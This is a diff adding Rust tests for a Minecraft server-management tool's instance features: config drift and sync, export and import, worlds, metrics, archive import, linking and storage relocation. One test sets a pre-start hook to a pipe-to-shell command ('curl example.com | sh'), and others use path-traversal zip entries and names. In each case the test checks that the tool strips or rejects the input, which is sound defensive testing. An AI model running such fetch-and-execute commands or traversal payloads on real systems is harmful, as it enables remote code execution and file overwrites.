@@ -115,3 +115,375 @@ async fn test_delete_instance_by_name() -> Result<()> {
     assert_eq!(manager.list_instances().await?.len(), 0);
     Ok(())
 }
+
+#[tokio::test]
+async fn test_config_drift_between_clones() -> Result<()> {
+    use mc_server_wrapper_core::config_files::{ConfigFormat, read_config_file};
+
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let original = manager.create_instance("Lobby", "1.20.1").await?;
+    std::fs::write(
+        original.path.join("server.properties"),
+        "server-port=25565\nview-distance=10\npvp=true\n",
+    )?;
+
+    let clone = manager.clone_instance(original.id, "Lobby 2").await?;
+    let unrelated = manager.create_instance("Other", "1.20.1").await?;
+    assert_eq!(clone.settings.lineage_id, Some(original.id));
+
+    let related = manager.get_related_instances(original.id).await?;
+    assert_eq!(related.iter().map(|i| i.id).collect::<Vec<_>>(), vec![clone.id]);
+    assert!(manager.get_related_instances(unrelated.id).await?.is_empty());
+
+    std::fs::write(
+        clone.path.join("server.properties"),
+        "server-port=25566\nview-distance=6\npvp=true\n",
+    )?;
+
+    let drift = manager.compare_instance_configs(&[original.id, clone.id]).await?;
+    let properties = drift.iter().find(|d| d.path == "server.properties").unwrap();
+    let keys: Vec<&str> = properties.entries.iter().map(|e| e.key.as_str()).collect();
+    assert_eq!(keys, vec!["server-port", "view-distance"]);
+    assert!(properties.entries[0].instance_specific);
+    assert_eq!(properties.entries[1].values[&clone.id].as_deref(), Some("6"));
+
+    manager
+        .sync_config_keys(
+            original.id,
+            &[clone.id],
+            "server.properties",
+            ConfigFormat::Properties,
+            &[vec!["view-distance".to_string()]],
+        )
+        .await?;
+    let synced = read_config_file(&clone.path, "server.properties", ConfigFormat::Properties).await?;
+    assert_eq!(synced.get("view-distance").map(String::as_str), Some("10"));
+    assert_eq!(synced.get("server-port").map(String::as_str), Some("25566"));
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_config_sync_keeps_lists_dotted_keys_and_types() -> Result<()> {
+    use mc_server_wrapper_core::config_files::{ConfigFormat, diff_configs, read_config_value};
+    use serde_json::json;
+
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let source = manager.create_instance("Source", "1.20.1").await?;
+    let target = manager.create_instance("Target", "1.20.1").await?;
+    let rel_path = "plugins/Shop/config.yml";
+    std::fs::create_dir_all(source.path.join("plugins/Shop"))?;
+    std::fs::create_dir_all(target.path.join("plugins/Shop"))?;
+    std::fs::write(
+        source.path.join(rel_path),
+        "worlds:\n  - world\n  - world_nether\nprices:\n  minecraft.diamond: 100\nlimit: 5\n",
+    )?;
+    std::fs::write(
+        target.path.join(rel_path),
+        "worlds:\n  - lobby\nprices:\n  minecraft.diamond: 80\nlimit: 3\nenabled: true\n",
+    )?;
+
+    let configs = vec![
+        (source.id, read_config_value(&source.path, rel_path, ConfigFormat::Yaml).await?),
+        (target.id, read_config_value(&target.path, rel_path, ConfigFormat::Yaml).await?),
+    ];
+    let drift = diff_configs(&configs);
+    let paths: Vec<Vec<String>> = drift.iter().map(|e| e.path.clone()).collect();
+    assert!(paths.contains(&vec!["prices".to_string(), "minecraft.diamond".to_string()]));
+    let worlds = drift.iter().find(|e| e.key == "worlds").unwrap();
+    assert_eq!(worlds.values[&source.id].as_deref(), Some(r#"["world","world_nether"]"#));
+
+    manager
+        .sync_config_keys(source.id, &[target.id], rel_path, ConfigFormat::Yaml, &paths)
+        .await?;
+    let synced = read_config_value(&target.path, rel_path, ConfigFormat::Yaml).await?;
+    assert_eq!(
+        synced,
+        json!({
+            "worlds": ["world", "world_nether"],
+            "prices": { "minecraft.diamond": 100 },
+            "limit": 5,
+        })
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_export_and_import_instance() -> Result<()> {
+    use mc_server_wrapper_core::instance::ExportFormat;
+
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let original = manager.create_instance("Exported", "1.20.1").await?;
+    tokio::fs::create_dir_all(original.path.join("world")).await?;
+    tokio::fs::write(original.path.join("world/level.dat"), b"level").await?;
+    tokio::fs::create_dir_all(original.path.join("logs")).await?;
+    tokio::fs::write(original.path.join("logs/latest.log"), b"log").await?;
+    let mut settings = original.settings.clone();
+    settings.environment.pre_start_hook = "curl example.com | sh".to_string();
+    manager.update_settings(original.id, None, settings).await?;
+
+    // A path leading back into the instance folder is caught however it is spelled
+    let sibling = dir.path().join("elsewhere");
+    tokio::fs::create_dir_all(&sibling).await?;
+    let sneaky = sibling.join("..").join(original.path.strip_prefix(dir.path())?).join("export.zip");
+    assert!(manager.export_instance(original.id, sneaky, ExportFormat::Zip, |_, _, _| {}).await.is_err());
+
+    let out = tempdir()?;
+    for (format, expected_name) in [(ExportFormat::Zip, "Exported (2)"), (ExportFormat::SevenZ, "Exported (3)")] {
+        let archive = manager
+            .export_instance(original.id, out.path().join("export"), format, |_, _, _| {})
+            .await?;
+        assert_eq!(archive.extension().unwrap(), format.extension());
+
+        let imported = manager
+            .import_exported_instance(archive, None, |_, _, _| {})
+            .await?;
+        assert_ne!(imported.id, original.id);
+        assert_eq!(imported.name, expected_name);
+        assert_eq!(imported.version, "1.20.1");
+        assert_eq!(tokio::fs::read(imported.path.join("world/level.dat")).await?, b"level");
+        assert!(!imported.path.join("logs").exists());
+        assert!(!imported.path.join("instance-manifest.json").exists());
+        assert_eq!(imported.settings.environment.pre_start_hook(), None);
+    }
+
+    assert_eq!(manager.list_instances().await?.len(), 3);
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_world_management() -> Result<()> {
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let instance = manager.create_instance("Worlds", "1.20.1").await?;
+
+    for folder in ["world", "world_nether", "world_the_end"] {
+        std::fs::create_dir_all(instance.path.join(folder))?;
+        std::fs::write(instance.path.join(folder).join("level.dat"), b"level")?;
+    }
+    std::fs::write(instance.path.join("world").join("session.lock"), b"lock")?;
+
+    let worlds = manager.list_worlds(instance.id).await?;
+    assert_eq!(worlds.len(), 1);
+    assert!(worlds[0].active);
+    assert_eq!(worlds[0].dimensions, vec!["world_nether", "world_the_end"]);
+
+    let copy = manager.duplicate_world(instance.id, "world", "creative").await?;
+    assert!(!copy.active);
+    assert_eq!(copy.dimensions, vec!["creative_nether", "creative_the_end"]);
+    assert!(!instance.path.join("creative").join("session.lock").exists());
+    assert!(manager.duplicate_world(instance.id, "world", "creative").await.is_err());
+    assert!(manager.duplicate_world(instance.id, "world", "../escape").await.is_err());
+
+    manager.switch_world(instance.id, "creative").await?;
+    let worlds = manager.list_worlds(instance.id).await?;
+    assert_eq!(worlds.len(), 2);
+    assert_eq!(worlds[0].name, "creative");
+    assert!(worlds[0].active);
+    assert!(!worlds[1].active);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_metric_samples() -> Result<()> {
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let instance = manager.create_instance("Metrics", "1.20.1").await?;
+    let since = chrono::Utc::now() - chrono::Duration::minutes(1);
+
+    let mut usage = mc_server_wrapper_core::server::ResourceUsage::default();
+    usage.cpu_usage = 12.5;
+    usage.memory_usage = 2048;
+    usage.player_count = 3;
+    usage.tps = Some(19.9);
+    usage.mspt = Some(21.0);
+    manager.record_metric_sample(instance.id, &usage).await?;
+
+    let samples = manager.get_metric_samples(instance.id, since).await?;
+    assert_eq!(samples.len(), 1);
+    assert_eq!(samples[0].memory_usage, 2048);
+    assert_eq!(samples[0].tps, Some(19.9));
+
+    // A range that ended before the sample excludes it
+    let before = manager.get_metric_samples_between(instance.id, since, Some(since)).await?;
+    assert!(before.is_empty());
+
+    let csv_path = dir.path().join("metrics.csv");
+    assert_eq!(manager.export_metrics_csv(instance.id, since, None, &csv_path).await?, 1);
+    let csv = std::fs::read_to_string(&csv_path)?;
+    let mut lines = csv.lines();
+    assert_eq!(lines.next(), Some("sampled_at,cpu_percent,memory_mb,player_count,tps,mspt"));
+    assert!(lines.next().unwrap().ends_with(",12.50,0.0,3,19.90,21.00"));
+
+    manager.delete_instance(instance.id).await?;
+    assert!(manager.get_metric_samples(instance.id, since).await?.is_empty());
+    Ok(())
+}
+
+fn write_zip(path: &std::path::Path, files: &[(&str, &str)]) -> Result<()> {
+    use std::io::Write;
+    let mut zip = zip::ZipWriter::new(std::fs::File::create(path)?);
+    for (name, content) in files {
+        zip.start_file(*name, zip::write::SimpleFileOptions::default())?;
+        zip.write_all(content.as_bytes())?;
+    }
+    zip.finish()?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_import_archive_and_cancel() -> Result<()> {
+    use mc_server_wrapper_core::instance::{CancelFlag, extract_zip};
+
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let archive = dir.path().join("server.zip");
+    write_zip(&archive, &[("srv/server.jar", "jar"), ("srv/world/level.dat", "x"), ("../evil.txt", "no")])?;
+
+    let instance = manager
+        .import_instance("Zipped", archive.clone(), "server.jar".to_string(), None, Some("srv".to_string()), None, CancelFlag::default(), |_, _, _| {})
+        .await?;
+    assert!(instance.path.join("world/level.dat").exists());
+    assert!(!dir.path().join("evil.txt").exists());
+
+    let cancel = CancelFlag::default();
+    cancel.cancel();
+    let dst = dir.path().join("cancelled");
+    let result = extract_zip(&archive, &dst, None, cancel, |_, _, _| {}).await;
+    assert!(result.unwrap_err().to_string().contains("cancelled"));
+    assert!(!dst.join("srv/server.jar").exists());
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_preflight_import() -> Result<()> {
+    use mc_server_wrapper_core::instance::{CancelFlag, detect_single_root};
+
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    manager.create_instance("Lobby", "1.20.1").await?;
+    let archive = dir.path().join("nested.zip");
+    write_zip(&archive, &[
+        ("backup/server/server.jar", "jar"),
+        ("backup/server/world/level.dat", "level"),
+        ("__MACOSX/backup/._server.jar", "junk"),
+    ])?;
+
+    let preflight = manager.preflight_import("Nested", &archive, None).await?;
+    assert!(preflight.is_ok());
+    assert_eq!(preflight.root_within_zip.as_deref(), Some("backup/server/"));
+    assert!(preflight.root_detected);
+    assert_eq!((preflight.estimated_size, preflight.file_count), (8, 2));
+
+    let taken = manager.preflight_import("lobby", &archive, Some("backup".to_string())).await?;
+    assert!(taken.name_error.is_some());
+    assert_eq!(taken.root_within_zip.as_deref(), Some("backup"));
+    assert!(!taken.root_detected);
+    assert!(manager.preflight_import("Missing", &dir.path().join("none.zip"), None).await?.source_error.is_some());
+
+    let instance = manager
+        .import_instance("Nested", archive, "server.jar".to_string(), None, None, None, CancelFlag::default(), |_, _, _| {})
+        .await?;
+    assert!(instance.path.join("world/level.dat").exists());
+
+    assert_eq!(detect_single_root([("srv/", true), ("srv/a.txt", false), ("b.txt", false)]), None);
+    assert_eq!(detect_single_root([("srv", true), ("srv/mods", true)]), Some("srv/mods/".to_string()));
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_link_instance_in_place() -> Result<()> {
+    let dir = tempdir()?;
+    let external = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    std::fs::write(external.path().join("server.jar"), "jar")?;
+    std::fs::create_dir_all(external.path().join("world"))?;
+    std::fs::write(external.path().join("world/level.dat"), "level")?;
+
+    // Folders inside the instances directory are imported as copies
+    let managed = manager.create_instance("Managed", "1.20.1").await?;
+    assert!(manager.preflight_link("Inside", &managed.path).await?.source_error.is_some());
+    assert!(manager.preflight_link("Root", dir.path()).await?.source_error.is_some());
+    assert!(manager.preflight_link("Missing", &external.path().join("none")).await?.source_error.is_some());
+
+    let missing_jar = manager
+        .link_instance("Linked", external.path().to_path_buf(), "paper.jar".to_string(), None, None)
+        .await;
+    assert!(missing_jar.is_err());
+
+    let linked = manager
+        .link_instance("Linked", external.path().to_path_buf(), "server.jar".to_string(), None, None)
+        .await?;
+    assert!(linked.linked);
+    assert_eq!(linked.path, external.path());
+    assert!(manager.get_instance(linked.id).await?.unwrap().linked);
+    assert!(!manager.get_instance(managed.id).await?.unwrap().linked);
+
+    // The same folder can't back two instances
+    assert!(manager.preflight_link("Again", external.path()).await?.source_error.is_some());
+
+    // Deleting the instance keeps the user's files
+    manager.delete_instance(linked.id).await?;
+    assert!(manager.get_instance(linked.id).await?.is_none());
+    assert!(external.path().join("world/level.dat").exists());
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_move_instance_between_storage_roots() -> Result<()> {
+    let dir = tempdir()?;
+    let second_disk = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let instance = manager.create_instance("Survival", "1.20.1").await?;
+    std::fs::write(instance.path.join("server.jar"), "jar")?;
+
+    // Only configured roots are targets, and roots can't nest in the instances directory
+    assert!(manager.relocate_instance(instance.id, second_disk.path(), |_, _, _| {}).await.is_err());
+    assert!(manager.set_storage_roots(&[dir.path().join("nested")]).await.is_err());
+
+    manager.set_storage_roots(&[second_disk.path().to_path_buf()]).await?;
+    let moved = manager.relocate_instance(instance.id, second_disk.path(), |_, _, _| {}).await?;
+    assert_eq!(moved.path, second_disk.path().join(instance.id.to_string()));
+    assert!(moved.path.join("server.jar").exists());
+    assert!(!instance.path.exists());
+    let stored = manager.get_instance(instance.id).await?.unwrap();
+    assert_eq!(stored.path, moved.path);
+    assert!(!stored.linked);
+
+    let counts: Vec<_> = manager.list_storage_roots().await?.iter().map(|r| r.instance_count).collect();
+    assert_eq!(counts, vec![0, 1]);
+    // The root holds an instance, so it can't be dropped yet
+    assert!(manager.set_storage_roots(&[]).await.is_err());
+
+    manager.relocate_instance(instance.id, dir.path(), |_, _, _| {}).await?;
+    manager.set_storage_roots(&[]).await?;
+    assert!(dir.path().join(instance.id.to_string()).join("server.jar").exists());
+    Ok(())
+}
+
+#[tokio::test]
+async fn test_resolve_instance_by_name_or_slug() -> Result<()> {
+    use mc_server_wrapper_core::instance::slugify;
+
+    let dir = tempdir()?;
+    let manager = setup_manager(&dir).await?;
+    let lobby = manager.create_instance("My Lobby!", "1.20.1").await?;
+    let survival = manager.create_instance("Survival", "1.20.1").await?;
+
+    assert_eq!(slugify("  My Lobby! "), "my-lobby");
+    assert_eq!(manager.resolve_instance_id(&lobby.id.to_string()).await?, lobby.id);
+    assert_eq!(manager.resolve_instance_id("My Lobby!").await?, lobby.id);
+    assert_eq!(manager.resolve_instance_id("my-lobby").await?, lobby.id);
+    assert_eq!(manager.resolve_instance_id("survival").await?, survival.id);
+    assert!(manager.resolve_instance_id("creative").await.is_err());
+
+    assert!(manager.create_instance("my lobby", "1.20.1").await.is_err());
+    assert!(manager.create_instance(&uuid::Uuid::new_v4().to_string(), "1.20.1").await.is_err());
+    assert!(manager.clone_instance(lobby.id, "SURVIVAL").await.is_err());
+    assert!(manager.update_settings(lobby.id, Some("Survival".to_string()), lobby.settings.clone()).await.is_err());
+    manager.update_settings(lobby.id, Some("my-lobby".to_string()), lobby.settings.clone()).await?;
+    Ok(())
+}